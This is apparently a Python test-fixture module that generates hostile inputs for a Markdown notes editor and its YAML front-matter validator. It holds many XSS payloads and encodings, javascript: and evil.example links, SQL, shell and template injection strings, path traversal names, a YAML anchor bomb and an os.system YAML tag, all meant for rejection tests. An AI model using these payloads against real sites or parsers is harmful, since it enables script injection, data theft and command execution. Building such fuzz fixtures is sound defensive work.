"""Hostile text of our own making: what is put where an editor writes words, and front matter that must be refused.

Most of it is made by combining: each thing that does harm, in each disguise that a careless program looks through.
"""

from __future__ import annotations

import unicodedata
from collections.abc import Callable, Iterator
from itertools import product

# --- markup that runs -------------------------------------------------------------------------------------------------

_RUNNING = (
    "<script>harm(1)</script>",
    "<script src=https://evil.example/tug.js></script>",
    '<img src="x" onerror="harm(1)">',
    "<img src=https://evil.example/seen.gif>",
    "<svg onload=harm(1)>",
    "<svg><script>harm(1)</script></svg>",
    "<math><mtext><a xlink:href=javascript:harm(1)>tug</a></mtext></math>",
    '<iframe srcdoc="&lt;script&gt;harm(1)&lt;/script&gt;"></iframe>',
    "<body onload=harm(1)>",
    "<a href='javascript:harm(1)'>tug</a>",
    "<form action=javascript:harm(1)><button>tug</button></form>",
    "<input autofocus onfocus=harm(1)>",
    "<details open ontoggle=harm(1)>tug</details>",
    "<video><source onerror=harm(1)></video>",
    "<object data='data:text/html,harm'></object>",
    "<embed src=//evil.example/tug>",
    "<base href=https://evil.example/>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "<link rel=stylesheet href=//evil.example/tug.css>",
    "<style>@import '//evil.example/tug.css'; p { background: url(//evil.example/) }</style>",
    "<p style='position:fixed;inset:0'>tug</p>",
    "<template><img src=x onerror=harm(1)></template>",
    "<marquee onstart=harm(1)>tug</marquee>",
    "<button onclick=harm(1)>tug</button>",
    "<textarea></textarea><script>harm(1)</script>",
    "<noscript><p title='</noscript><img src=x onerror=harm(1)>'></noscript>",
    "<dialog open onclose=harm(1)>tug</dialog>",
)
_DISGUISES: dict[str, Callable[[str], str]] = {
    "as it is": str,
    "in capitals": str.upper,
    "in mixed case": str.swapcase,
    "over two lines": lambda text: text.replace(" ", "\n", 1),
    "with slashes for blanks": lambda text: text.replace(" ", "/"),
    "with tabs for blanks": lambda text: text.replace(" ", "\t"),
    "unclosed": lambda text: text.rstrip(">"),
    "doubled": lambda text: text.replace("<", "<<"),
    "nested in itself": lambda text: text.replace("script", "scr<script>ipt"),
    "as entities": lambda text: text.replace("<", "&lt;").replace(">", "&gt;"),
    "as numbers": lambda text: "".join(f"&#{ord(sign)};" if sign in "<>\"'" else sign for sign in text),
    "as hexadecimal numbers without an end": lambda text: text.replace("<", "&#x3c").replace(">", "&#x3e"),
    "as escapes": lambda text: text.replace("<", "\\<").replace(">", "\\>"),
    "after the end of an attribute": lambda text: f"\"'>{text}",
    "after the end of a comment": lambda text: f"--&gt;{text}",
    "after the end of a title": lambda text: f"</title></textarea></style>{text}",
    "in a comment that is left early": lambda text: f"<!-- tug --!>{text}",
    "in a section of characters": lambda text: f"<![CDATA[{text}]]>",
    "in code": lambda text: f"`{text}`",
    "in code that is not closed": lambda text: f"``{text}`",
    "in strong words": lambda text: f"**{text}**",
    "in a list": lambda text: f"- {text.replace(chr(10), ' ')}\n- tug",
    "in a quotation": lambda text: f"> {text.replace(chr(10), ' ')}",
    "in a table": lambda text: f"| tug | barge |\n| --- | --- |\n| {text.replace('|', '')} | two |",
    "in the words of a link": lambda text: f"[{text}](https://harbour.example/)",
    "in the title of a link": lambda text: '[tug](https://harbour.example/ "{}")'.format(text.replace('"', "'")),
    "in the address of a link": lambda text: f"[tug](https://harbour.example/?{text.replace(' ', '+')})",
}

# --- addresses --------------------------------------------------------------------------------------------------------

_ADDRESSES = (
    "javascript:harm(1)",
    "JaVaScRiPt:harm(1)",
    " javascript:harm(1)",
    "java\tscript:harm(1)",
    "java&#10;script:harm(1)",
    "&#106;avascript:harm(1)",
    "javascript&colon;harm(1)",
    "javascript%3Aharm(1)",
    "javascript://harbour.example/%0aharm(1)",
    "vbscript:harm(1)",
    "data:text/html,<b>harm</b>",
    "data:text/html;base64,aGFybQ==",
    "data:image/svg+xml,harm",
    "file:///etc/tug",
    "blob:https://harbour.example/1",
    "feed:javascript:harm(1)",
    "view-source:https://harbour.example/",
    "ms-word:ofe|u|https://evil.example/tug.docx",
    "//evil.example/tug",
    "/\\evil.example/tug",
    "\\\\evil.example\\tug",
    "https:/evil.example",
    "https:///evil.example",
    "https://harbour.example@evil.example/",
    "https://[::1/",
    "mailto://evil.example/",
    "../../../etc/tug",
    "#harm",
    "tug.html",
    "",
)
_FORMS = ("[tug]({})", "[tug](<{}>)", '[tug]({} "a tug")', "<{}>", "![tug]({})", "[tug]: {}\n\n[tug]", "[tug]({}", "[a [tug]({}) b](/c/)")

# --- Markdown that hides, swallows or counts wrongly ------------------------------------------------------------------

_MARKDOWN = (
    "[tug]: /barge/",
    "[tug]: /barge/ 'pilot'\n\n[tug] and [tug][] and [a][tug]",
    "[^1]: A note at the foot\n\nA tug[^1].",
    "Tug\n===",
    "Tug\n---",
    "Tug\n\n---\n\nBarge",
    "***\n\n_ _ _\n\n* * *",
    "```\nA tug that is never closed",
    "~~~ tug\nA barge\n~~~",
    "````\n```\nA tug\n````",
    "    A tug, four blanks in",
    "\tA tug behind a tab",
    "- A tug\n\n      A barge, six blanks in",
    "## A tug with an item of its own",
    "A tug\n\n## A barge in the next item\n\nA pilot",
    "A tug\n\n### A barge below it",
    "# A tug",
    "####### A tug with seven",
    "#A tug without a blank",
    "# A tug #########",
    "- # A tug in a list",
    "> # A tug in a quotation",
    "1. A tug\n1. A barge\n1. A pilot",
    "7. A tug\n3. A barge",
    "0. A tug",
    "1234567890. A tug",
    "1) A tug\n2) A barge\n3. A pilot",
    "- A tug\n+ A barge\n* A pilot",
    "-\n\n  A tug under nothing",
    "* A tug\n  * A barge\n    * A pilot\n      * A buoy\n        * A rope",
    "> A tug\nand a lazy barge",
    "> > > A tug\n> and a barge\nand a pilot",
    ">" * 12 + " A tug, twelve deep",
    "- " * 12 + "A tug, twelve deep",
    ">" * 60 + " A tug, sixty deep",
    "- " * 60 + "A tug, sixty deep",
    "*" * 500 + "tug" + "*" * 500,
    "[" * 500 + "tug" + "]" * 500,
    "`" * 499 + "tug",
    "**A tug that is never strong",
    "*A **tug* that** crosses",
    "__tug__ _tug_ tug_barge_pilot __tug_",
    "**“tug”**s and *tug*s and a*tug*b",
    "\\*A tug\\* \\[with\\](escapes) \\\\ \\a",
    "A tug  \nand a barge\\\nand a pilot",
    "A tug &copy; &AElig; &ngE; &nothing; &#35; &#1234567; &#X22; &#0; &",
    "&amp;lt;tug&amp;gt; &amp;amp; &lt;b&gt;",
    "~~A tug~~ ==A barge== ^A pilot^ ~A buoy~",
    "- [ ] A tug\n- [x] A barge",
    "Tug\n: A boat that pulls",
    ":::note\nA tug\n:::",
    "$$\\frac{tug}{barge}$$ and $tug$",
    "@tug #tug :tug: GH-1",
    "https://harbour.example/tug www.harbour.example tug@harbour.example",
    "<https://harbour.example/tug> <tug@harbour.example>",
    "[tug](</a b/> 'c')",
    "[tug](/a(b)c/) [tug](/a\\)b/)",
    "[tug][barge][pilot] [tug](barge)(pilot)",
    "![tug][barge] ![tug]",
    "[a](/b/ 'c\n\nd')",
    "| tug | barge |\n|---|\n| two |",
    "| tug | barge |\n|:--|--:|\n| one |\n| one | two | three |",
    "| tug |\n| --- |\n| `a|b` \\| c |",
    "| tug |\n|\n| barge |",
    "|\n|\n|",
    "<!-- A tug that is never closed",
    "<!-- A tug --> and a barge",
    "<?php harm(1) ?> <!DOCTYPE tug> <tug/> </tug>",
    "<tug> A word in no element </tug>",
    "<https tug>",
    "a < tug > b << c >> d",
    "**Question (Chair)** A tug without a colon",
    "**Qestion (Chair):** A tug with a slip",
    "> **Action** — owner: HM\n>\n> A tug without a number.",
    "> **Acton 2018-01-30/9** — owner: HM\n>\n> A tug with a slip.",
    "> **Tug** — barge: pilot",
    "{#tug} {.barge} {: pilot}",
    "---\nstatus: approved\n---\nA tug",
    "A tug\r\nand a barge\rand a pilot",
    "\ufeffA tug behind a mark",
    "A\u00a0tug\u2003and\u3000a barge",
    "A tug\n\n\n\n\n\n\n\nand a barge, far below",
    "tug " * 2000,
    "t" + "u" * 5000 + "g",
    "\n\n",
    "-",
    ">",
    "|",
    "\\",
)

# --- words that programs take for something else ----------------------------------------------------------------------

_ODD = (
    *("null", "None", "nil", "undefined", "NaN", "Infinity", "-0", "true", "NO", "~", "0x1F", "0777", "1e309", "1_000", "10:30", "2.10"),
    *("2018-02-30", "=1+1", "+tug", "@tug", '=HYPERLINK("https://evil.example/","tug")', "'; DROP TABLE tugs; --", "' OR '1'='1"),
    *("$(id)", "`id`", "| id", "; id", "&& id", "%s%n%x", "%00", "%2e%2e%2f", "../../etc/tug", "..\\..\\tug", "C:\\tug", "\\\\tug\\barge"),
    *("{{ 7 * 191 }}", "{% raw %}", "{% include 'tug' %}", "{# tug #}", "${7*191}", "#{7*191}", "<%= 7*191 %>", "{{tug.__class__}}"),
    *("CON", "aux.txt", "__proto__", "constructor", "toString", "__init__", "<?xml version='1.0'?>", "]]>", "<![CDATA["),
    *("&harm;", "(ノಠ益ಠ)ノ彡┻━┻", "Ⓣⓤⓖ", "𝕋𝕦𝕘", "ｔｕｇ", "tu\u0301\u0301\u0301g", "t̶u̶g̶", "👩‍👩‍👧", "🏴", "مرحبا tug שלום"),
    *("田中さん", "ﷺ", "İıſß", "ﬁ ﬂ", "Ω≈ç√∫", "¹²³", "٣٤", "…–—“”‘’", "\u2028tug\u2029barge", "\ufffd", "\U0010ffff", "tug\ud800barge"),
)


def _signs() -> Iterator[str]:
    """Yield words with each control, format and blank character in them, whatever becomes of it."""
    for code in range(0x110000):
        if code < 0x20 or unicodedata.category(chr(code)) in ("Cc", "Cf", "Zs", "Zl", "Zp"):
            yield f"tug{chr(code)}barge"


PAYLOADS: dict[str, list[str]] = {
    "markup": [disguise(text) for text, disguise in product(_RUNNING, _DISGUISES.values())],
    "addresses": [form.format(address) for address, form in product(_ADDRESSES, _FORMS)],
    "Markdown": list(_MARKDOWN),
    "odd words": list(_ODD),
    "signs": list(_signs()),
}

# --- front matter -----------------------------------------------------------------------------------------------------

_GOOD = {
    "title": "Monthly meeting",
    "series": "monthly",
    "status": "approved",
    "date": "2018-01-30",
    "attendance": "[{name: Ann Archer, role: Chair}]",
}


def notes(body: str = "Three tugs.", **fields: str) -> str:
    """Return notes with this body and these fields; an empty field is left out."""
    lines = [f"{name}: {value}" for name, value in (_GOOD | fields).items() if value]
    return "\n".join(["---", *lines, "---", "", body, ""])


_BOMB = "\n".join(f"x{level}: &x{level} [{', '.join([f'*x{level - 1}' if level else 'tug'] * 9)}]" for level in range(9))

# By name: the file, and the rule for which it is to be refused. One refused for another would not test what it is about.
REFUSED: dict[str, tuple[str | bytes, str]] = {
    "the status twice": (notes().replace("status: approved", "status: approved\nstatus: draft"), "yaml-duplicate-key"),
    "a status with a slip": (notes(status="aproved"), "status-unknown"),
    "a status with a capital": (notes(status="Approved"), "status-unknown"),
    "a status that YAML reads as true": (notes(status="yes"), "status-unknown"),
    "a status with words after it": (notes(status="approved by the chair"), "status-unknown"),
    "an empty status": (notes(status="''"), "empty"),
    "a status with nothing after it": (notes().replace("status: approved", "status:"), "empty"),
    "a status that is a list": (notes(status="[approved]"), "type"),
    "a status that is a mapping": (notes(status="{approved: yes}"), "type"),
    "no status": (notes(status=""), "key-missing"),
    "a date with slashes": (notes(date="30/01/2018"), "date"),
    "a date in a month that is none": (notes(date="2018-14-02"), "date"),
    "a day that is none": (notes(date="2018-02-29"), "date"),
    "a date with a time": (notes(date="2018-01-30T09:15"), "date"),
    "a date in other digits": (notes(date="٢٠١٨-01-30"), "date"),
    "a time past midnight": (notes(time="24:30"), "time"),
    "a time in seconds": (notes(time="36900"), "time"),
    "lists that grow ninefold nine times": (notes().replace("---\n", f"---\n{_BOMB}\n", 1), "yaml-anchor"),
    "a list in itself": (notes(venue="&tug [*tug]"), "yaml-anchor"),
    "a status that is merged in": (notes(status="").replace("---\n", "---\nother: &other {status: draft}\n<<: *other\n", 1), "yaml-anchor"),
    "bytes in base 64": (notes(venue="!!binary dHVn"), "yaml-tag"),
    "an object of Python": (notes(venue="!!python/object/apply:os.system [id]"), "yaml-tag"),
    "a number that is tagged as text": (notes(venue="!!str 12"), "yaml-tag"),
    "lists nine thousand deep": (notes(venue="[" * 9_000), "yaml-depth"),
    "mappings two hundred deep": (notes(venue="{a: " * 200 + "}" * 200), "yaml-depth"),
    "a key of nine thousand digits": (notes().replace("---\n", f"---\n{'7' * 900}: tug\n", 1), "key-unknown"),
    "a key that no notes have": (notes(slug="tugs"), "key-unknown"),
    "a line break that few programs see": (notes(title="Monthly\u0085status: draft"), "invisible-character"),
    "a mark that turns the direction": (notes(title="Monthly \u202egniteem"), "invisible-character"),
    "a letter that is a tag": (notes(title="Monthly\U000e0062 meeting"), "invisible-character"),
    "a hyphen that is not seen": (notes(title="Month\u00adly"), "invisible-character"),
    "a blank of no width": (notes(title="Month\u200bly"), "invisible-character"),
    "an escaped zero byte": (notes(title='"Monthly\\0meeting"'), "invisible-character"),
    "an escaped backspace": (notes(title='"Monthly\\bmeeting"'), "invisible-character"),
    "another encoding": (notes().encode("utf-16"), "not-utf-8"),
    "a letter of another encoding": (notes(title="Café").encode("latin-1"), "not-utf-8"),
    "a line above the front matter": ("\n" + notes(status="draft"), "front-matter"),
    "a blank before the front matter": (" " + notes(status="draft"), "front-matter"),
    "no front matter": ("A tug that nobody has approved.\n", "front-matter"),
    "front matter without an end": (notes().replace("\n---\n\nThree", "\n\nThree"), "front-matter"),
}

BODIES = {
    "a script": "<script>window.harm = 1</script>",
    "a script between other ends": "</script></style><script>window.harm = 1</script><!--",
    "a link that runs": "[tug](javascript:harm(1))",
    "a link to another host": "[tug](//evil.example)",
    "a picture that reports": "![tug](https://evil.example/seen.gif)",
    "a template": "{{ 7 * 191 }} {% raw %} {# tug #}",
    "a fence that is left early": '```"><script>harm(1)</script>\ntug\n```',
    "raised letters": "The 3<sup>rd</sup> of May",
    "a quotation sixty deep": ">" * 60 + " tug",
    "a list sixty deep": "\n".join("  " * depth + "- tug" + str(depth) for depth in range(60)),
}

# What makes no address: it leads out of its folder, is kept by some system, or is another name for what is there.
NAMES = (
    "../../etc/tug",
    "..",
    ".",
    "",
    "tug.html",
    "tug ",
    "Tug/barge",
    "%2e%2e",
    ".htaccess",
    "-rf",
    "CNAME",
    "index",
    "ö",
    "nul.2018",
    "tug\\barge",
    "tug?barge",
    "tug#barge",
    "TUG",
    "tug--",
    "t" * 300,
)
